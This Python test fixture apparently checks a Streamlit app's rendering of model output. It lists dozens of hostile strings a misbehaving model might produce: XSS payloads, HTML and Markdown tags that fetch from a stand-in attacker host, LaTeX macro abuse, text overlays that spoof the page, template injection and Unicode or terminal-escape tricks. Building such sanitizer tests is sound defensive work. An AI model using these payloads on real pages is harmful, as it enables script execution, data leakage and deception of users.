"""What a hostile model might answer: each tries to run, to fetch from the attacker, or to pose as the page.

Knows: the ways that other pages have been taken in by text.
Refuses to know: what is done against them.
"""

from __future__ import annotations

A = "http://127.0.0.1:ATTACKER"

HOSTILE = (
    # -- HTML that runs
    f"<script src='{A}/script.js'></script><script>alert(1)</script>",
    f"<img src=x onerror=\"fetch('{A}/onerror');alert(2)\">",
    f"<svg onload=\"alert(3)\"><image href='{A}/svg.png'/></svg>",
    f"<body onload=alert(4) background='{A}/body.png'>",
    f"<input autofocus onfocus=\"alert(5)\" type=image src='{A}/input.png'>",
    f"<details open ontoggle=\"fetch('{A}/toggle')\"><summary>보기</summary>",
    f'<math><mi//xlink:href="data:x,<script>alert(6)</script>">{A}/math',
    f"<a href=\"jav&#x09;ascript:fetch('{A}/tab')\">눌러 주세요</a>",
    # -- HTML that fetches
    f"<img srcset='{A}/set.png 1x, {A}/set2.png 2x'><picture><source srcset='{A}/source.png'></picture>",
    f"<iframe src='{A}/frame.html' srcdoc='<script>alert(7)</script>'></iframe>",
    f"<object data='{A}/object.swf'><embed src='{A}/embed.swf'></object>",
    f"<meta http-equiv=refresh content='0;url={A}/refresh'>",
    f"<style>@import url('{A}/import.css'); body {{ background: url({A}/style.png) }}</style>",
    f"<link rel=stylesheet href='{A}/link.css'><link rel=prefetch href='{A}/prefetch'>",
    f"<video poster='{A}/poster.png' autoplay><source src='{A}/video.mp4'></video><audio src={A}/a.mp3>",
    f"<base href='{A}/base/'><div style=\"background:url('{A}/div.png')\">안녕</div>",
    f"<form action='{A}/form'><button formaction='javascript:alert(8)'>확인</button></form>",
    f"<!-- --><img src='{A}/after-comment.png'><!-- <img src='{A}/in-comment.png'>",
    f"<img src='{A}/unclosed.png",
    f"&lt;img src='{A}/entity.png'&gt; &#60;script&#62;alert(9)&#60;/script&#62;",
    f"<noscript><p title=\"</noscript><img src='{A}/mutation.png' onerror=alert(10)>\"></noscript>",
    # -- Markdown that fetches
    f"![고양이]({A}/image.png)",
    f"![참조][그림]\n\n[그림]: {A}/reference.png 'x'",
    f"# ![제목]({A}/heading.png)\n\n- > ![깊이]({A}/nested.png)",
    f"| ![표]({A}/table.png) | 나 |\n|---|---|\n| <img src={A}/cell.png> | 다 |",
    f"[![단추]({A}/button.png)]({A}/clicked)",
    f"![데이터](data:image/svg+xml;utf8,<svg><image href='{A}/data.png'/></svg>) ![](data:image/gif,R0lG)",
    # -- links that run or mislead
    "[눌러](javascript:alert(11)) [눌러](JaVaScRiPt:alert(12)) [눌러](java\nscript:alert(13))",
    "[눌러](javascript&colon;alert(14)) [눌러](&#106;avascript:alert(15)) [눌러](<javascript:alert(16)>)",
    "[눌러](vbscript:msgbox(17)) [눌러](data:text/html,<script>alert(18)</script>) <javascript:alert(19)>",
    f"[은행](https://bank.example@127.0.0.1:ATTACKER/) <{A}/auto> {A}/bare www.attacker.example a@b.example",
    f"각주[^1]\n\n[^1]: ![각주]({A}/footnote.png)",
    # -- Streamlit's own additions
    f":red[![붉게]({A}/red.png)] :blue-badge[[배지]({A}/badge)] :rainbow[무지개]",
    f":material/error: :streamlit: :smile: `:material/lock:` :material_delete: :help[{A}/help] :small[작게]",
    f':color[칠]{{foreground="red" background="url({A}/color.png)"}} ::leaf[{A}] \n:::note\n상자\n:::',
    "$\\href{javascript:alert(20)}{눌러}$ $\\includegraphics{http://127.0.0.1:ATTACKER/latex.png}$",
    f"$$\n\\url{{{A}/url}} \\htmlStyle{{background:url({A}/html.png)}}{{x}}\n$$",
    # -- formulas that fetch, run, repeat themselves, hide, or lie over the page
    f"\\(\\href{{{A}/paren}}{{눌러}}\\) \\[\\includegraphics[width=9em]{{{A}/bracket.png}}\\]",
    f"$$\n\\begin{{aligned}} x &= \\url{{{A}/aligned}} \\\\ \\htmlData{{a=b}}{{y}} \\end{{aligned}}\n$$",
    f"| 식 |\n|---|\n| $\\htmlStyle{{background:url('{A}/cell-math.png')}}{{x}}$ |",
    "- $\\htmlId{{root}}{{x}}$",
    f"> \\[\n> \\htmlClass{{stApp}}{{\\includegraphics{{{A}/quoted.png}}}}\n> \\]",
    "$\\def\\a{\\a\\a}\\a$ $\\gdef\\b#1{\\b{#1#1}}\\b{x}$",
    "$\\newcommand{\\c}{\\c}\\c$ $\\let\\frac=\\href$",
    "$$\n\\global\\long\\def\\x{\\expandafter\\x\\csname href\\endcsname}\n$$",
    "$$\n\\renewcommand{\\text}[1]{\\x}\\x\n$$",
    "$x % 감춘 말$ $\\phantom{감춘 말}$ $\\mathchoice{가}{나}{다}{라}$ $\\color{white}{흰 말}$",
    "$\\rule{9999em}{9999em}$ $\\kern-99em\\text{로그인}$ $\\raisebox{99em}{확인}$",
    "$\\mathllap{\\text{비밀번호}}$",
    "$" + "\\!" * 99 + "\\text{왼쪽}$ $" + "{" * 99 + "x" + "}" * 99 + "$ $\\Huge\\colorbox{red}{경고}$",
    "$\\verb|<img src=x onerror=alert(24)>|$ $\\unicode{x3c}$ $\\char60$ $\\text{\\href{a}{b}}$",
    f"$$\n\\text{{</span><img src='{A}/text.png' onerror=alert(25)>}} `\\href`\n$$",
    "\\(\\text{{:material/lock:}}\\)",
    f"$$\\htmlData{{x}}{{y}}$$ \\\\($\\url{{{A}/mixed}}$\\\\) $`{A}/ticks`$ $$$\\href{{{A}/three}}{{x}}$$$",
    # -- fences that are drawn
    f'```mermaid\ngraph TD\nA@{{ img: "{A}/mermaid.png" }}\nB["<img src=\'{A}/label.png\'>"]\n'
    f'click A "javascript:alert(21)"\n```',
    f"- 목록\n  ```mermaid\n  graph TD; A[\"<img src='{A}/list.png'>\"]\n  ```",
    f"1. 수식\n   ```math\n   \\includegraphics{{{A}/math.png}}\n   ```\n   `` ` $x$ `` $$y$$",
    f"```html\n<img src='{A}/fenced.png' onerror=alert(22)>\n```\n`<img src='{A}/inline.png'>`",
    # -- other readers of text
    f"${{fetch('{A}/template')}} {{{{constructor.constructor('alert(23)')()}}}} <%= 7*7 %> #{{7*7}}",
    f"\u202egnp.tnemyap\u202c \u0000\u0007\u001b]8;;{A}/osc\u0007link\u001b]8;;\u0007 \ufeff끝",
)
"""`ATTACKER` stands for the port."""


def hostile(payload: str, port: int) -> str:
    return payload.replace("ATTACKER", str(port))
